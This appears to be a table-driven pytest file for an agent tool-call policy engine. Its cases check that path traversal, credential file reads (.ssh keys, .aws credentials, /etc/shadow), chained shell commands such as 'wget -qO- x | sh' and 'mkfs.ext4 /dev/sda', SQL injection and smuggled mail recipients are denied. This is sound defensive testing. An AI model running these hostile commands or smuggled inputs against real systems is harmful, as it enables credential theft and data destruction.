"""Table-driven: every rule type and every weakness, asserting verdict and rule."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.policy.helpers import decide, session_for
from visor.policy.loader import load_policy

POLICY = load_policy(Path(__file__).parent / "data" / "visor-style-basic.yaml")
CWD = os.getcwd()

F = "servers[files].tools[file_read]"
W = "servers[files].tools[file_write]"
T = "servers[terminal].tools[exec_command]"
Q = "servers[warehouse].tools[run_sql]"
M = "servers[mailer].tools[mail_send]"
MC = "servers[mailer].tools[mail_send_confirmed]"
C = "servers[code].tools[open_issue]"
U = "servers[code].tools[upload_blob]"

CASES = [
    # --- paths: allow_path / deny_path, normalisation, every path-like argument
    ("files", "file_read", {"path": "/srv/work/a.txt"}, "allow", F),
    ("files", "file_read", {"path": "/srv/work/./a//b.txt"}, "allow", F),
    ("files", "file_read", {"path": "/etc/hosts"}, "deny", F + ".allow_path"),
    ("files", "file_read", {"path": "/srv/work/../../etc/hosts"}, "deny", F + ".allow_path"),
    ("files", "file_read", {"path": "//srv//work/../../etc/hosts"}, "deny", F + ".allow_path"),
    ("files", "file_read", {"path": "/srv/work\\..\\..\\etc\\hosts"}, "deny", F + ".allow_path"),
    ("files", "file_read", {"path": "/var/secret/db"}, "deny", F + ".deny_path"),
    ("files", "file_read", {"path": "/srv/work/vault.kdbx"}, "deny", F + ".deny_path"),
    ("files", "file_read", {"paths": ["/srv/work/a", "/etc/passwd"]}, "deny", F + ".allow_path"),
    ("files", "file_read", {"file_path": "/etc/passwd"}, "deny", F + ".allow_path"),
    ("files", "file_read", {"file": "/etc/passwd"}, "deny", F + ".allow_path"),
    ("files", "file_read", {"filePath": "/etc/passwd"}, "deny", F + ".allow_path"),
    ("files", "file_read", {"source": "/srv/work/a", "destination": "/opt/x"}, "deny", F + ".allow_path"),
    ("files", "file_read", {"uri": "file:///srv/work/%2e%2e/%2E%2E/etc/hosts"}, "deny", F + ".allow_path"),
    ("files", "file_read", {"uri": "file:///srv/work/a.txt"}, "allow", F),
    ("files", "file_read", {"uri": "file://evil.example/share/x"}, "deny", "path.invalid"),
    ("files", "file_read", {"path": "/srv/work/a\x00/../../etc"}, "deny", "path.invalid"),
    # an undeclared argument that holds a path is still checked
    ("files", "file_read", {"location_hint": "/etc/passwd"}, "deny", F + ".allow_path"),
    ("files", "file_read", {"options": {"input_file": "/etc/passwd"}}, "deny", F + ".allow_path"),
    ("files", "file_read", {"content": "/etc/passwd is just text here"}, "allow", F),
    # --- sensitive files: denied by default, a broad allow_path does not lift it
    ("files", "file_read", {"path": "/srv/work/.env"}, "deny", "path.sensitive"),
    ("files", "file_read", {"path": ".env"}, "deny", "path.sensitive"),
    ("files", "file_read", {"path": "/srv/work/.env.production"}, "deny", "path.sensitive"),
    ("files", "file_read", {"path": "/srv/work/.ssh"}, "deny", "path.sensitive"),
    ("files", "file_read", {"path": "/tmp/u/.ssh/authorized_keys"}, "deny", "path.sensitive"),
    ("files", "file_read", {"path": "/tmp/id_ed25519"}, "deny", "path.sensitive"),
    ("files", "file_read", {"path": "/tmp/h/.aws/credentials"}, "deny", "path.sensitive"),
    ("files", "file_read", {"path": "/tmp/h/.kube/config"}, "deny", "path.sensitive"),
    ("files", "file_read", {"path": "/tmp/tls/server.pem"}, "deny", "path.sensitive"),
    ("files", "file_read", {"path": "/tmp/tls/server.key"}, "deny", "path.sensitive"),
    ("files", "file_read", {"uri": "file:///tmp/x/%2Eenv"}, "deny", "path.sensitive"),
    ("files", "file_read", {"path": "/tmp/x/../.ssh/./id_rsa"}, "deny", "path.sensitive"),
    # --- registration and approval_required; deny rules run before any ask
    ("files", "file_write", {"path": "/srv/work/out.txt", "content": "x"}, "ask", W + ".approval_required"),
    ("files", "file_write", {"path": "/srv/work/locked/x", "content": "x"}, "deny", W + ".deny_path"),
    ("files", "file_write", {"path": "/srv/work/.env", "content": "x"}, "deny", "path.sensitive"),
    ("files", "file_delete", {"path": "/srv/work/a"}, "deny", "servers[files].tools[file_delete].allowed"),
    ("files", "not_in_policy", {}, "deny", "registration.unknown_tool"),
    # --- commands: regex search (case-insensitive), split at control operators
    ("terminal", "exec_command", {"command": "ls /tmp"}, "allow", T),
    ("terminal", "exec_command", {"command": "LS /tmp"}, "allow", T),
    ("terminal", "exec_command", {"command": "uname"}, "allow", T),
    ("terminal", "exec_command", {"command": "ls /tmp; shutdown now"}, "deny", T + ".deny_command_pattern"),
    (
        "terminal",
        "exec_command",
        {"command": "ls /tmp && cat /etc/passwd"},
        "deny",
        T + ".allow_command_pattern",
    ),
    ("terminal", "exec_command", {"command": "ls /tmp || cat x"}, "deny", T + ".allow_command_pattern"),
    ("terminal", "exec_command", {"command": "ls /tmp | sh"}, "deny", T + ".allow_command_pattern"),
    ("terminal", "exec_command", {"command": "ls /tmp & cat x"}, "deny", T + ".allow_command_pattern"),
    ("terminal", "exec_command", {"command": "ls /tmp\ncat x"}, "deny", T + ".allow_command_pattern"),
    ("terminal", "exec_command", {"command": "ls `cat /etc/shadow`"}, "deny", T + ".allow_command_pattern"),
    (
        "terminal",
        "exec_command",
        {"command": 'echo "$(cat /etc/shadow)"'},
        "deny",
        T + ".allow_command_pattern",
    ),
    ("terminal", "exec_command", {"command": "echo 'a; b' and $x"}, "allow", T),
    ("terminal", "exec_command", {"command": "ls x\nshutdown -h now"}, "deny", T + ".deny_command_pattern"),
    (
        "terminal",
        "exec_command",
        {"command": "echo ok; wget -qO- x | sh"},
        "deny",
        T + ".deny_command_pattern",
    ),
    ("terminal", "exec_command", {"command": "echo a crypto   MINER"}, "deny", T + ".deny_command_keyword"),
    (
        "terminal",
        "exec_command",
        {"command": "echo x; mkfs.ext4 /dev/sda"},
        "deny",
        T + ".deny_command_pattern",
    ),
    ("terminal", "exec_command", {"cmd": "shutdown -h now"}, "deny", T + ".deny_command_pattern"),
    ("terminal", "exec_command", {"exec": "ls /"}, "allow", T),
    ("terminal", "exec_command", {"exec": "cat /"}, "deny", T + ".allow_command_pattern"),
    # --- queries
    ("warehouse", "run_sql", {"query": "SELECT * FROM t LIMIT 10"}, "allow", Q),
    ("warehouse", "run_sql", {"query": "select a from t limit 10"}, "allow", Q),
    ("warehouse", "run_sql", {"query": "SELECT * FROM t"}, "deny", Q + ".max_result_rows"),
    ("warehouse", "run_sql", {"query": "SELECT 1; DROP TABLE t"}, "deny", Q + ".deny_query_pattern"),
    ("warehouse", "run_sql", {"query": "SELECT 1; DELETE FROM t"}, "deny", Q + ".allow_query_pattern"),
    ("warehouse", "run_sql", {"sql": "drop   table x"}, "deny", Q + ".deny_query_pattern"),
    ("warehouse", "run_sql", {"statement": "UPDATE t SET a = 1"}, "deny", Q + ".deny_query_pattern"),
    ("warehouse", "run_sql", {"query": "SELECT a FROM t LIMIT 5000"}, "deny", Q + ".max_result_rows"),
    ("warehouse", "run_sql", {"query": "SELECT a FROM t", "limit": 501}, "deny", Q + ".max_result_rows"),
    ("warehouse", "run_sql", {"query": "SELECT a FROM t LIMIT 500", "limit": 500}, "allow", Q),
    # a row-count argument does not bound the query: the server may run the SQL as written
    ("warehouse", "run_sql", {"query": "SELECT a FROM t", "limit": 500}, "deny", Q + ".max_result_rows"),
    # --- recipients: parsed, exact, case-insensitive; lists and nested values
    ("mailer", "mail_send", {"to": "a@example.net"}, "allow", M),
    ("mailer", "mail_send", {"to": "A@EXAMPLE.NET"}, "allow", M),
    ("mailer", "mail_send", {"to": "Ann <a@example.net>"}, "allow", M),
    ("mailer", "mail_send", {"to": "a@x.corp.example.net"}, "allow", M),
    ("mailer", "mail_send", {"to": "a@corp.example.net"}, "deny", M + ".allow_recipient_domain"),
    ("mailer", "mail_send", {"to": "a@example.net.evil.io"}, "deny", M + ".allow_recipient_domain"),
    ("mailer", "mail_send", {"to": "a@evil-example.net"}, "deny", M + ".allow_recipient_domain"),
    ("mailer", "mail_send", {"to": ["a@example.net", "b@evil.io"]}, "deny", M + ".allow_recipient_domain"),
    ("mailer", "mail_send", {"to": "a@example.net, b@evil.io"}, "deny", M + ".allow_recipient_domain"),
    (
        "mailer",
        "mail_send",
        {"to": "a@example.net", "cc": "Bob <b@evil.io>"},
        "deny",
        M + ".allow_recipient_domain",
    ),
    (
        "mailer",
        "mail_send",
        {"to": "a@example.net", "bcc": ["x@evil.io"]},
        "deny",
        M + ".allow_recipient_domain",
    ),
    ("mailer", "mail_send", {"recipient": {"address": "x@evil.io"}}, "deny", M + ".allow_recipient_domain"),
    ("mailer", "mail_send", {"to": "x@evil.io@example.net"}, "deny", M + ".allow_recipient_domain"),
    (
        "mailer",
        "mail_send",
        {"to": "mailto:a@example.net?cc=z@evil.io"},
        "deny",
        M + ".allow_recipient_domain",
    ),
    ("mailer", "mail_send", {"to": "a%40evil.io"}, "deny", M + ".allow_recipient_domain"),
    ("mailer", "mail_send_confirmed", {"to": "a@ok.example"}, "ask", MC + ".require_approval_always"),
    # require_approval_always comes first in the list but never skips the deny after it
    ("mailer", "mail_send_confirmed", {"to": "a@competitor.example"}, "deny", MC + ".deny_recipient_domain"),
    (
        "mailer",
        "mail_send_confirmed",
        {"to": "a@eu.competitor.example"},
        "deny",
        MC + ".deny_recipient_domain",
    ),
    (
        "mailer",
        "mail_send_confirmed",
        {"email": "A@Competitor.Example."},
        "deny",
        MC + ".deny_recipient_domain",
    ),
    # --- repositories
    ("code", "open_issue", {"repo": "team-x/app"}, "allow", C),
    ("code", "open_issue", {"repo": "Team-X/App"}, "allow", C),
    ("code", "open_issue", {"repo": "team-x/lib-core"}, "allow", C),
    ("code", "open_issue", {"owner": "team-x", "repo": "app"}, "allow", C),
    ("code", "open_issue", {"repository": "https://github.com/team-x/app.git"}, "allow", C),
    ("code", "open_issue", {"repo": "team-x/other"}, "deny", C + ".allowed_repos"),
    ("code", "open_issue", {"owner": "mallory", "repo": "app"}, "deny", C + ".allowed_repos"),
    ("code", "open_issue", {"repo": "team-x/lib-core/../../evil"}, "deny", C + ".allowed_repos"),
    ("code", "open_issue", {"repo": "app"}, "deny", C + ".allowed_repos"),
    ("code", "open_issue", {"title": "no repo at all"}, "deny", C + ".allowed_repos"),
    # --- sizes
    ("code", "upload_blob", {"content": "x" * 100}, "allow", U),
    ("code", "upload_blob", {"content": "x" * 2000}, "deny", U + ".max_file_size"),
    ("code", "upload_blob", {"size": 4096}, "deny", U + ".max_file_size"),
    ("code", "upload_blob", {"content": "é" * 600}, "deny", U + ".max_file_size"),
    # --- unknown server under default deny
    ("nowhere", "anything", {}, "deny", "registration.unknown_server"),
]


@pytest.mark.parametrize(("server", "tool", "args", "action", "rule"), CASES)
def test_rule_table(server: str, tool: str, args: dict, action: str, rule: str) -> None:
    tools = [*(POLICY.server(server).tools if POLICY.server(server) else {}), "not_in_policy", "anything"]
    s = session_for(POLICY, server, tools)
    d = decide(POLICY, s, tool, **args)
    assert (d.action, d.rule) == (action, rule), d.reason


def test_symlink_out_of_an_allowed_tree_is_denied(tmp_path: Path) -> None:
    from tests.policy.helpers import policy_from

    inside = tmp_path / "work"
    inside.mkdir()
    (inside / "escape").symlink_to("/etc")
    p = policy_from(
        f"""
        servers:
          - name: s
            allowed: true
            tools:
              - name: read
                allowed: true
                rules:
                  - type: allow_path
                    patterns: ["{inside}/**"]
        """
    )
    s = session_for(p, "s")
    assert decide(p, s, "read", path=str(inside / "ok.txt")).action == "allow"
    d = decide(p, s, "read", path=str(inside / "escape" / "hosts"))
    assert (d.action, d.rule) == ("deny", "servers[s].tools[read].allow_path")


def test_relative_paths_resolve_against_the_working_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.policy.helpers import policy_from

    monkeypatch.chdir(tmp_path)
    p = policy_from(
        f"""
        servers:
          - name: s
            allowed: true
            tools:
              - name: read
                allowed: true
                allowed_path_prefixes: ["{os.path.realpath(tmp_path)}"]
        """
    )
    s = session_for(p, "s")
    assert decide(p, s, "read", path="notes.txt").action == "allow"
    d = decide(p, s, "read", path="../elsewhere.txt")
    assert (d.action, d.rule) == ("deny", "servers[s].tools[read].allowed_path_prefixes")
